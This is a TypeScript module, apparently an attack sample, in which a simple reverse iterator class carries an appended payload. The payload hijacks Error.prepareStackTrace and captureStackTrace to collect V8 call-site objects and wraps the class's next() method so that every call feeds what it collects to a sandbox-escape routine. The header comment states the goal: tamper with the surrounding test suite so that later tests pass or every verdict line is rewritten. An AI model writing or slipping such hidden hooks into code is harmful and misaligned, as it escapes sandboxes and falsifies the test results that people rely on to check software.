// Attack: Error.prepareStackTrace receives V8's CallSite objects: getThis() and getFunction()
// of every frame of a sloppy caller, and the error itself. Installed at import and triggered from
// next() (and by every error formatted later, the suite's own check failures included), it hands
// whatever it finds to the escape. Error.captureStackTrace on a plain object is tried as well.
// Success: the tests after the first pass, or every verdict line is rewritten.
export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) {}
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
// @payload
let done = false;
const found: unknown[] = [];
(Error as any).prepareStackTrace = (error: unknown, sites: any[]) => {
  found.push(error);
  for (const site of sites) {
    try { found.push(site.getThis()); } catch { /* refused */ }
    try { found.push(site.getFunction()); } catch { /* refused */ }
  }
  return 'stack';
};
function probe(): void {
  if (done) return;
  try { void new Error('probe').stack; } catch { /* refused */ }
  try { const holder: any = {}; (Error as any).captureStackTrace(holder); void holder.stack; } catch { /* refused */ }
  for (const thing of found.splice(0)) if (thing && thing !== globalThis && !done && exploit(thing)) done = true;
}
const next = (Data.prototype as any).next;
(Data.prototype as any).next = function (this: unknown) { probe(); return next.call(this); };
